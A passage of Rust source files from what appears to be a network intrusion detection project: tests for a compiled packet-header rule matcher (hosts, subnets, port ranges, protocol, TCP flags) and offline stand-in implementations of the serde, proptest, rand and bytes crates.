        let lane = HeaderLane::compile(&[HeaderRule::to_host("decoy", decoy)]);
        assert_eq!(
            lane.match_mask(&fields([1, 2, 3, 4], [192, 168, 1, 200], 80, 6, 0x18)),
            1
        );
        assert_eq!(
            lane.match_mask(&fields([1, 2, 3, 4], [192, 168, 1, 10], 80, 6, 0x18)),
            0
        );
    }

    #[test]
    fn port_range_proto_and_flags_compose_as_and() {
        let rule = HeaderRule {
            dst_ports: Some((100, 200)),
            proto: Some(6),
            tcp_flags_any: Some(0x02), // SYN
            ..HeaderRule::any("syn-to-low-ports")
        };
        let lane = HeaderLane::compile(std::slice::from_ref(&rule));
        let hit = fields([9, 9, 9, 9], [10, 0, 0, 1], 150, 6, 0x02);
        assert!(lane.matches(&hit));
        assert!(rule.matches_naive(&hit));
        for miss in [
            fields([9, 9, 9, 9], [10, 0, 0, 1], 99, 6, 0x02), // port low
            fields([9, 9, 9, 9], [10, 0, 0, 1], 201, 6, 0x02), // port high
            fields([9, 9, 9, 9], [10, 0, 0, 1], 150, 17, 0x02), // not tcp
            fields([9, 9, 9, 9], [10, 0, 0, 1], 150, 6, 0x10), // no syn
        ] {
            assert!(!lane.matches(&miss));
            assert!(!rule.matches_naive(&miss));
        }
    }

    #[test]
    fn subnet_rules_honor_prefixes_including_zero() {
        let lane = HeaderLane::compile(&[
            HeaderRule::to_net("dark", Ipv4Addr::new(10, 99, 0, 0), 16),
            HeaderRule {
                src_net: Some((Ipv4Addr::new(0, 0, 0, 0), 0)),
                ..HeaderRule::any("everything")
            },
        ]);
        // Dark destination: both rules (prefix 0 matches all sources).
        assert_eq!(
            lane.match_mask(&fields([1, 1, 1, 1], [10, 99, 55, 2], 80, 6, 0)),
            0b11
        );
        // Elsewhere: only the catch-all.
        assert_eq!(
            lane.match_mask(&fields([1, 1, 1, 1], [10, 98, 55, 2], 80, 6, 0)),
            0b10
        );
    }

    #[test]
    fn rules_past_the_cap_are_ignored_and_reported() {
        let rules: Vec<HeaderRule> = (0..40)
            .map(|i| HeaderRule::to_host("h", Ipv4Addr::new(10, 0, 0, i)))
            .collect();
        let lane = HeaderLane::compile(&rules);
        assert_eq!(lane.rules().len(), MAX_RULES);
        assert!(lane.truncated(rules.len()));
        assert!(!lane.truncated(MAX_RULES));
    }

    #[test]
    fn fields_extraction_matches_packet_headers() {
        let b = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2));
        let p = b
            .tcp(
                1234,
                80,
                7,
                0,
                snids_packet::TcpFlags::PSH | snids_packet::TcpFlags::ACK,
                b"x",
            )
            .unwrap();
        let f = HeaderFields::of(&p);
        assert_eq!(f.dst_port, 80);
        assert_eq!(f.proto, 6);
        assert_eq!(f.flags, 0x18);
        assert_eq!(f.dst, u32::from(Ipv4Addr::new(10, 0, 0, 2)));
        let u = b.udp(999, 53, b"q").unwrap();
        let fu = HeaderFields::of(&u);
        assert_eq!(fu.proto, 17);
        assert_eq!(fu.flags, 0, "udp carries no tcp flags");
    }
}
