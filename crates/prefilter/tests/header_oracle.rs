//! Differential property tests: the compiled, branch-free header lane
//! must agree **byte-for-byte** with the naive per-predicate oracle
//! ([`HeaderRule::matches_naive`]) over arbitrary rules and arbitrary
//! packets — every rule bit, not just the any-match boolean — and the
//! batched SoA path must agree with the scalar path.

use proptest::prelude::*;
use snids_prefilter::{HeaderBatch, HeaderFields, HeaderLane, HeaderRule, MAX_RULES};
use std::net::Ipv4Addr;

/// Interned rule names: `HeaderRule.name` is `&'static str` (rules are
/// compiled once at startup in production), so test rules share a pool.
const NAMES: [&str; 4] = ["alpha", "bravo", "charlie", "delta"];

fn arb_rule() -> impl Strategy<Value = HeaderRule> {
    (
        0usize..NAMES.len(),
        proptest::option::of((any::<u16>(), any::<u16>())),
        proptest::option::of(any::<u8>()),
        proptest::option::of(any::<u8>()),
        proptest::option::of((any::<u32>(), 0u8..=40)),
        proptest::option::of((any::<u32>(), 0u8..=40)),
    )
        .prop_map(|(name, ports, proto, flags, src, dst)| HeaderRule {
            name: NAMES[name],
            // Normalize the range so (lo, hi) is inclusive and ordered.
            dst_ports: ports.map(|(a, b)| (a.min(b), a.max(b))),
            proto,
            tcp_flags_any: flags,
            src_net: src.map(|(a, p)| (Ipv4Addr::from(a), p)),
            dst_net: dst.map(|(a, p)| (Ipv4Addr::from(a), p)),
        })
}

fn arb_fields() -> impl Strategy<Value = HeaderFields> {
    (
        any::<u32>(),
        any::<u32>(),
        any::<u16>(),
        any::<u8>(),
        any::<u8>(),
    )
        .prop_map(|(src, dst, dst_port, proto, flags)| HeaderFields {
            src,
            dst,
            dst_port,
            proto,
            // The packet parser only ever surfaces the 6 real TCP flag
            // bits; mirror that domain here (the oracle masks anyway).
            flags: flags & 0x3f,
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Every bit of the compiled match mask equals the oracle's verdict
    /// for the corresponding rule, for arbitrary rules × packets.
    #[test]
    fn compiled_mask_is_bit_exact_against_the_oracle(
        rules in proptest::collection::vec(arb_rule(), 0..9),
        packets in proptest::collection::vec(arb_fields(), 1..32),
    ) {
        let lane = HeaderLane::compile(&rules);
        for f in &packets {
            let mask = lane.match_mask(f);
            for (r, rule) in rules.iter().enumerate() {
                let compiled = mask & (1 << r) != 0;
                let oracle = rule.matches_naive(f);
                prop_assert_eq!(
                    compiled, oracle,
                    "rule {} ({:?}) disagrees on {:?}: compiled={} oracle={}",
                    r, rule, f, compiled, oracle
                );
            }
        }
    }

    /// The batched SoA path produces exactly the scalar masks, and the
    /// count helper agrees with both.
    #[test]
    fn batch_path_equals_scalar_path(
        rules in proptest::collection::vec(arb_rule(), 0..7),
        packets in proptest::collection::vec(arb_fields(), 1..300),
    ) {
        let lane = HeaderLane::compile(&rules);
        let mut batch = HeaderBatch::with_capacity(packets.len());
        for f in &packets {
            batch.push(*f);
        }
        let mut masks = vec![0u32; batch.len()];
        lane.match_batch(&batch, &mut masks);
        let mut scalar_hits = 0usize;
        for (i, f) in packets.iter().enumerate() {
            prop_assert_eq!(masks[i], lane.match_mask(f), "packet {}", i);
            scalar_hits += lane.matches(f) as usize;
        }
        prop_assert_eq!(lane.count_batch(&batch), scalar_hits);
    }

    /// Compiling more than the cap keeps exactly the first MAX_RULES and
    /// stays bit-exact for those.
    #[test]
    fn truncation_keeps_a_bit_exact_prefix(
        rules in proptest::collection::vec(arb_rule(), (MAX_RULES + 1)..(MAX_RULES + 9)),
        f in arb_fields(),
    ) {
        let lane = HeaderLane::compile(&rules);
        prop_assert_eq!(lane.rules().len(), MAX_RULES);
        prop_assert!(lane.truncated(rules.len()));
        let mask = lane.match_mask(&f);
        for (r, rule) in rules.iter().take(MAX_RULES).enumerate() {
            prop_assert_eq!(mask & (1 << r) != 0, rule.matches_naive(&f));
        }
    }
}
