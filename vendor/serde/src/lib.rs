//! Hermetic stand-in for `serde`.
//!
//! The workspace derives `Serialize`/`Deserialize` widely but serializes
//! nothing through serde itself (JSON output is hand-rolled). Offline, the
//! real crate cannot be fetched, so the traits here are pure markers with
//! blanket implementations, and the derive macros expand to nothing.

/// Marker trait; every type trivially satisfies it.
pub trait Serialize {}
impl<T: ?Sized> Serialize for T {}

/// Marker trait; every type trivially satisfies it.
pub trait Deserialize<'de> {}
impl<'de, T: ?Sized> Deserialize<'de> for T {}

/// Owned-deserialization marker, mirroring serde's `DeserializeOwned`.
pub trait DeserializeOwned {}
impl<T: ?Sized> DeserializeOwned for T {}

pub use serde_derive::{Deserialize, Serialize};
