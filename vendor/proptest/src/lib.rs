//! Hermetic stand-in for `proptest`.
//!
//! The offline container cannot fetch the real crate, so this reimplements
//! the subset this workspace's property tests use: the `proptest!` macro
//! (with optional `#![proptest_config(...)]`), `any::<T>()`, integer-range
//! and tuple strategies, `Strategy::prop_map`, `proptest::collection::vec`,
//! `proptest::option::of`, a small character-class regex string strategy,
//! and the `prop_assert*` / `prop_assume!` macros.
//!
//! Inputs are random but **deterministic**: each test derives its RNG seed
//! from the test name, so failures reproduce exactly on re-run. Shrinking
//! is not implemented — a failing case prints its inputs via the standard
//! assert message instead.

pub mod strategy {
    use rand::{Rng, RngCore};
    use std::ops::{Range, RangeFrom, RangeInclusive};

    /// The RNG driving generation (re-exported for the macro).
    pub type TestRng = rand::rngs::StdRng;

    /// A generator of values of `Self::Value`.
    pub trait Strategy {
        type Value;
        fn generate(&self, rng: &mut TestRng) -> Self::Value;

        /// Transform generated values with a pure function, mirroring
        /// `proptest`'s combinator of the same name.
        fn prop_map<T, F: Fn(Self::Value) -> T>(self, f: F) -> Map<Self, F>
        where
            Self: Sized,
        {
            Map { inner: self, f }
        }
    }

    /// Output of [`Strategy::prop_map`].
    pub struct Map<S, F> {
        inner: S,
        f: F,
    }

    impl<S: Strategy, T, F: Fn(S::Value) -> T> Strategy for Map<S, F> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            (self.f)(self.inner.generate(rng))
        }
    }

    /// Strategy yielding one fixed value.
    #[derive(Clone, Debug)]
    pub struct Just<T: Clone>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;
        fn generate(&self, _rng: &mut TestRng) -> T {
            self.0.clone()
        }
    }

    impl<T: rand::SampleUniform> Strategy for Range<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            rng.gen_range(self.clone())
        }
    }

    impl<T: rand::SampleUniform> Strategy for RangeInclusive<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            rng.gen_range(self.clone())
        }
    }

    impl<T: rand::SampleUniform> Strategy for RangeFrom<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            rng.gen_range(self.start..=T::MAX_VALUE)
        }
    }

    macro_rules! impl_tuple_strategy {
        ($($name:ident),+) => {
            impl<$($name: Strategy),+> Strategy for ($($name,)+) {
                type Value = ($($name::Value,)+);
                #[allow(non_snake_case)]
                fn generate(&self, rng: &mut TestRng) -> Self::Value {
                    let ($($name,)+) = self;
                    ($($name.generate(rng),)+)
                }
            }
        };
    }
    impl_tuple_strategy!(A);
    impl_tuple_strategy!(A, B);
    impl_tuple_strategy!(A, B, C);
    impl_tuple_strategy!(A, B, C, D);
    impl_tuple_strategy!(A, B, C, D, E);
    impl_tuple_strategy!(A, B, C, D, E, F);

    /// String strategy from a restricted regex: literal characters,
    /// `[a-z0-9_]`-style classes, and `{n}` / `{m,n}` / `?` / `*` / `+`
    /// quantifiers (star/plus capped at 8 repeats).
    impl Strategy for &str {
        type Value = String;
        fn generate(&self, rng: &mut TestRng) -> String {
            generate_from_pattern(self, rng)
        }
    }

    fn generate_from_pattern(pattern: &str, rng: &mut TestRng) -> String {
        let chars: Vec<char> = pattern.chars().collect();
        let mut out = String::new();
        let mut i = 0;
        while i < chars.len() {
            // One atom: a class or a literal character.
            let alphabet: Vec<char> = if chars[i] == '[' {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == ']')
                    .map(|p| i + p)
                    .unwrap_or(chars.len() - 1);
                let mut set = Vec::new();
                let mut j = i + 1;
                while j < close {
                    if j + 2 < close && chars[j + 1] == '-' {
                        let (lo, hi) = (chars[j] as u32, chars[j + 2] as u32);
                        for c in lo..=hi {
                            if let Some(c) = char::from_u32(c) {
                                set.push(c);
                            }
                        }
                        j += 3;
                    } else {
                        set.push(chars[j]);
                        j += 1;
                    }
                }
                i = close + 1;
                set
            } else {
                let c = if chars[i] == '\\' && i + 1 < chars.len() {
                    i += 1;
                    chars[i]
                } else {
                    chars[i]
                };
                i += 1;
                vec![c]
            };
            // Optional quantifier.
            let (lo, hi) = if i < chars.len() && chars[i] == '{' {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == '}')
                    .map(|p| i + p)
                    .unwrap_or(chars.len() - 1);
                let body: String = chars[i + 1..close].iter().collect();
                i = close + 1;
                match body.split_once(',') {
                    Some((m, n)) => (m.trim().parse().unwrap_or(0), n.trim().parse().unwrap_or(8)),
                    None => {
                        let n = body.trim().parse().unwrap_or(1);
                        (n, n)
                    }
                }
            } else if i < chars.len() && (chars[i] == '*' || chars[i] == '+' || chars[i] == '?') {
                let q = chars[i];
                i += 1;
                match q {
                    '*' => (0, 8),
                    '+' => (1, 8),
                    _ => (0, 1),
                }
            } else {
                (1, 1)
            };
            let count = rng.gen_range(lo..=hi.max(lo));
            for _ in 0..count {
                if !alphabet.is_empty() {
                    let k: usize = rng.gen_range(0..alphabet.len());
                    out.push(alphabet[k]);
                }
            }
        }
        out
    }

    /// `any::<T>()` support.
    pub trait Arbitrary: Sized {
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! impl_arbitrary_int {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                fn arbitrary(rng: &mut TestRng) -> Self {
                    rng.next_u64() as $t
                }
            }
        )*};
    }
    impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> Self {
            rng.next_u64() & 1 == 1
        }
    }

    impl Arbitrary for u128 {
        fn arbitrary(rng: &mut TestRng) -> Self {
            (u128::from(rng.next_u64()) << 64) | u128::from(rng.next_u64())
        }
    }

    /// Generator for any value of an [`Arbitrary`] type.
    #[derive(Clone, Copy, Debug, Default)]
    pub struct Any<T> {
        pub(crate) _marker: std::marker::PhantomData<T>,
    }

    impl<T: Arbitrary> Strategy for Any<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }
}

/// `any::<T>()`, mirroring `proptest::arbitrary::any`.
pub fn any<T: strategy::Arbitrary>() -> strategy::Any<T> {
    strategy::Any {
        _marker: std::marker::PhantomData,
    }
}

pub mod arbitrary {
    pub use crate::any;
    pub use crate::strategy::Arbitrary;
}

pub mod collection {
    use crate::strategy::{Strategy, TestRng};
    use rand::Rng;
    use std::ops::Range;

    /// Vector strategy with a uniformly drawn length.
    pub struct VecStrategy<S> {
        elem: S,
        size: Range<usize>,
    }

    /// `proptest::collection::vec(elem, len_range)`.
    pub fn vec<S: Strategy>(elem: S, size: Range<usize>) -> VecStrategy<S> {
        VecStrategy { elem, size }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let len = if self.size.is_empty() {
                self.size.start
            } else {
                rng.gen_range(self.size.clone())
            };
            (0..len).map(|_| self.elem.generate(rng)).collect()
        }
    }
}

pub mod option {
    use crate::strategy::{Strategy, TestRng};
    use rand::Rng;

    /// Strategy for `Option<T>` values (see [`of`]).
    pub struct OptionStrategy<S> {
        inner: S,
    }

    /// `proptest::option::of(strategy)`: `Some` roughly half the time.
    pub fn of<S: Strategy>(inner: S) -> OptionStrategy<S> {
        OptionStrategy { inner }
    }

    impl<S: Strategy> Strategy for OptionStrategy<S> {
        type Value = Option<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Option<S::Value> {
            if rng.gen_range(0..2usize) == 0 {
                None
            } else {
                Some(self.inner.generate(rng))
            }
        }
    }
}

pub mod test_runner {
    use rand::SeedableRng;

    /// Per-test configuration (only `cases` is meaningful here).
    #[derive(Clone, Debug)]
    pub struct ProptestConfig {
        /// Number of random cases to run per property.
        pub cases: u32,
    }

    impl ProptestConfig {
        pub fn with_cases(cases: u32) -> Self {
            ProptestConfig { cases }
        }
    }

    impl Default for ProptestConfig {
        fn default() -> Self {
            ProptestConfig { cases: 64 }
        }
    }

    /// Deterministic case driver: the seed is a pure function of the test
    /// name, so every run explores the same inputs.
    pub struct TestRunner {
        config: ProptestConfig,
        base_seed: u64,
        case: u64,
    }

    impl TestRunner {
        pub fn new(config: ProptestConfig, name: &str) -> Self {
            // FNV-1a over the test name.
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in name.bytes() {
                h ^= u64::from(b);
                h = h.wrapping_mul(0x0000_0100_0000_01b3);
            }
            TestRunner {
                config,
                base_seed: h,
                case: 0,
            }
        }

        pub fn cases(&self) -> u32 {
            self.config.cases
        }

        /// Fresh RNG for the next case.
        pub fn next_rng(&mut self) -> crate::strategy::TestRng {
            let seed = self
                .base_seed
                .wrapping_add(self.case.wrapping_mul(0x9E37_79B9_7F4A_7C15));
            self.case += 1;
            crate::strategy::TestRng::seed_from_u64(seed)
        }
    }
}

/// Defines property tests: each function runs its body for many
/// deterministically random inputs drawn from the given strategies.
#[macro_export]
macro_rules! proptest {
    (@run($cfg:expr) $($(#[$meta:meta])* fn $name:ident($($pat:pat in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let config: $crate::test_runner::ProptestConfig = $cfg;
                let mut runner =
                    $crate::test_runner::TestRunner::new(config, concat!(module_path!(), "::", stringify!($name)));
                for _ in 0..runner.cases() {
                    let mut prop_rng = runner.next_rng();
                    $(let $pat = $crate::strategy::Strategy::generate(&($strat), &mut prop_rng);)+
                    // Mirror real proptest: the body runs in a closure that
                    // may `return Ok(())` early (e.g. via `prop_assume!`).
                    #[allow(unused_mut)]
                    let mut case = move || -> ::std::result::Result<(), ::std::string::String> {
                        $body
                        ::std::result::Result::Ok(())
                    };
                    if let ::std::result::Result::Err(e) = case() {
                        panic!("proptest case failed: {}", e);
                    }
                }
            }
        )*
    };
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::proptest! { @run($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::proptest! { @run($crate::test_runner::ProptestConfig::default()) $($rest)* }
    };
}

/// Property-test assertion (plain `assert!` here; no shrinking).
#[macro_export]
macro_rules! prop_assert {
    ($($t:tt)*) => { assert!($($t)*) };
}

/// Property-test equality assertion.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($t:tt)*) => { assert_eq!($($t)*) };
}

/// Property-test inequality assertion.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($t:tt)*) => { assert_ne!($($t)*) };
}

/// Skip the current case when its inputs don't satisfy a precondition.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Ok(());
        }
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !($cond) {
            return ::std::result::Result::Ok(());
        }
    };
}

pub mod prelude {
    pub use crate::any;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, proptest};
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #[test]
        fn vec_lengths_respect_range(v in crate::collection::vec(any::<u8>(), 2..9)) {
            prop_assert!(v.len() >= 2 && v.len() < 9);
        }

        #[test]
        fn tuple_and_ranges(pair in (0u8..5, any::<u32>()), x in 1u16.., y in 0usize..=3) {
            prop_assert!(pair.0 < 5);
            prop_assert!(x >= 1);
            prop_assert!(y <= 3);
        }

        #[test]
        fn regex_strings(words in crate::collection::vec("[a-z]{1,8}", 1..4)) {
            for w in &words {
                prop_assert!(!w.is_empty() && w.len() <= 8);
                prop_assert!(w.chars().all(|c| c.is_ascii_lowercase()));
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(7))]
        #[test]
        fn config_cases_accepted(x in any::<u64>()) {
            let _ = x;
        }
    }

    #[test]
    fn deterministic_across_runners() {
        use crate::strategy::Strategy;
        let cfg = ProptestConfig::default();
        let mut a = crate::test_runner::TestRunner::new(cfg.clone(), "t");
        let mut b = crate::test_runner::TestRunner::new(cfg, "t");
        let s = crate::collection::vec(any::<u8>(), 0..32);
        for _ in 0..8 {
            assert_eq!(s.generate(&mut a.next_rng()), s.generate(&mut b.next_rng()));
        }
    }
}
