//! Hermetic stand-in for the `rand` crate.
//!
//! This workspace builds in an offline container, so the real `rand` cannot
//! be fetched. This crate reimplements exactly the 0.8-era API surface the
//! workspace uses — [`Rng`] (`gen`, `gen_range`, `gen_bool`), [`SeedableRng`]
//! (`seed_from_u64`) and [`rngs::StdRng`] — on top of xoshiro256++ seeded by
//! splitmix64. Streams are deterministic per seed, which is all the
//! generators and tests rely on; they never assume the upstream `StdRng`
//! byte stream.

use std::ops::{Range, RangeInclusive};

/// Low-level source of randomness.
pub trait RngCore {
    /// Next 64 uniformly random bits.
    fn next_u64(&mut self) -> u64;

    /// Next 32 uniformly random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// Fill `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let v = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

fn next_u128<R: RngCore + ?Sized>(rng: &mut R) -> u128 {
    (u128::from(rng.next_u64()) << 64) | u128::from(rng.next_u64())
}

/// Types producible directly from an RNG (the `Standard` distribution).
pub trait Standard: Sized {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_uint {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for u128 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        next_u128(rng)
    }
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 random mantissa bits in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for f32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() >> 40) as f32 * (1.0 / (1u64 << 24) as f32)
    }
}

/// Integer types uniformly samplable within bounds. The single generic
/// `SampleRange` impl below hangs off this trait so that type inference
/// flows through `gen_range` exactly as it does with the real rand.
pub trait SampleUniform: Copy + PartialOrd {
    /// The largest representable value (used by open-ended strategies).
    const MAX_VALUE: Self;
    /// Uniform sample from `[low, high)`; caller guarantees `low < high`.
    fn sample_excl<R: RngCore + ?Sized>(rng: &mut R, low: Self, high: Self) -> Self;
    /// Uniform sample from `[low, high]`; caller guarantees `low <= high`.
    fn sample_incl<R: RngCore + ?Sized>(rng: &mut R, low: Self, high: Self) -> Self;
}

macro_rules! impl_sample_uniform {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            const MAX_VALUE: Self = <$t>::MAX;
            fn sample_excl<R: RngCore + ?Sized>(rng: &mut R, low: Self, high: Self) -> Self {
                let span = (high as i128 - low as i128) as u128;
                let v = next_u128(rng) % span;
                (low as i128 + v as i128) as $t
            }
            fn sample_incl<R: RngCore + ?Sized>(rng: &mut R, low: Self, high: Self) -> Self {
                let span = (high as i128 - low as i128) as u128 + 1;
                let v = next_u128(rng) % span;
                (low as i128 + v as i128) as $t
            }
        }
    )*};
}
impl_sample_uniform!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

/// Ranges samplable by [`Rng::gen_range`].
pub trait SampleRange<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        assert!(self.start < self.end, "gen_range: empty range");
        T::sample_excl(rng, self.start, self.end)
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (start, end) = self.into_inner();
        assert!(start <= end, "gen_range: empty range");
        T::sample_incl(rng, start, end)
    }
}

/// The user-facing random-value API, auto-implemented for every [`RngCore`].
pub trait Rng: RngCore {
    /// A uniformly random value of `T`.
    fn gen<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    /// A uniformly random value in `range` (modulo-reduced; the tiny bias
    /// is irrelevant for test-data generation).
    fn gen_range<T: SampleUniform, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample(self)
    }

    /// `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p out of range");
        <f64 as Standard>::sample(self) < p
    }

    /// Fill `dest` with random data.
    fn fill(&mut self, dest: &mut [u8]) {
        self.fill_bytes(dest);
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Construction of an RNG from seed material.
pub trait SeedableRng: Sized {
    /// Build a generator whose stream is a pure function of `seed`.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Concrete generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// Deterministic xoshiro256++ generator (stand-in for rand's `StdRng`).
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    fn splitmix64(state: &mut u64) -> u64 {
        *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = *state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            let mut sm = seed;
            StdRng {
                s: [
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                ],
            }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }
    }

    /// Alias kept for API compatibility.
    pub type SmallRng = StdRng;
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn same_seed_same_stream() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..64 {
            assert_eq!(a.gen::<u64>(), b.gen::<u64>());
        }
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let v: u16 = rng.gen_range(1025..65000);
            assert!((1025..65000).contains(&v));
            let w: u8 = rng.gen_range(1..=255);
            assert!(w >= 1);
            let s: usize = rng.gen_range(0..5);
            assert!(s < 5);
        }
    }

    #[test]
    fn inference_through_arithmetic() {
        // Mirrors call sites like `0xbfff_f000 + rng.gen_range(0..0x800)`:
        // the range's integer literals must infer from the usage context.
        let mut rng = StdRng::seed_from_u64(8);
        let v: u32 = 0xbfff_f000 + rng.gen_range(0..0x800);
        assert!(v >= 0xbfff_f000);
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = StdRng::seed_from_u64(9);
        assert!((0..100).all(|_| !rng.gen_bool(0.0)));
        assert!((0..100).all(|_| rng.gen_bool(1.0)));
    }

    #[test]
    fn distinct_seeds_diverge() {
        let mut a = StdRng::seed_from_u64(1);
        let mut b = StdRng::seed_from_u64(2);
        let va: Vec<u64> = (0..8).map(|_| a.gen()).collect();
        let vb: Vec<u64> = (0..8).map(|_| b.gen()).collect();
        assert_ne!(va, vb);
    }
}
