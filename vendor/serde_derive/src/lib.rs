//! No-op derive macros standing in for `serde_derive`.
//!
//! The workspace's `serde` stand-in gives `Serialize`/`Deserialize` blanket
//! implementations, so the derives only need to *exist* and accept the
//! `#[serde(...)]` helper attribute — they expand to nothing.

use proc_macro::TokenStream;

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}
