//! Hermetic stand-in for the `bytes` crate.
//!
//! Implements the subset the workspace uses: an immutable, cheaply
//! cloneable byte buffer ([`Bytes`]) backed by `Arc<[u8]>` with zero-copy
//! [`Bytes::slice`].

use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::{Deref, Range};
use std::sync::Arc;

/// An immutable, reference-counted byte buffer. Clones and sub-slices
/// share the same allocation.
#[derive(Clone)]
pub struct Bytes {
    data: Arc<[u8]>,
    start: usize,
    end: usize,
}

impl Bytes {
    /// An empty buffer.
    pub fn new() -> Self {
        Bytes::from(Vec::new())
    }

    /// Copy a slice into a new buffer.
    pub fn copy_from_slice(data: &[u8]) -> Self {
        Bytes::from(data.to_vec())
    }

    /// Length of the view.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// Whether the view is empty.
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }

    /// A zero-copy sub-view sharing this buffer's allocation.
    ///
    /// Panics when the range is out of bounds, matching upstream.
    pub fn slice(&self, range: Range<usize>) -> Bytes {
        assert!(
            range.start <= range.end && range.end <= self.len(),
            "slice out of bounds: {:?} of {}",
            range,
            self.len()
        );
        Bytes {
            data: Arc::clone(&self.data),
            start: self.start + range.start,
            end: self.start + range.end,
        }
    }
}

impl Default for Bytes {
    fn default() -> Self {
        Bytes::new()
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data[self.start..self.end]
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
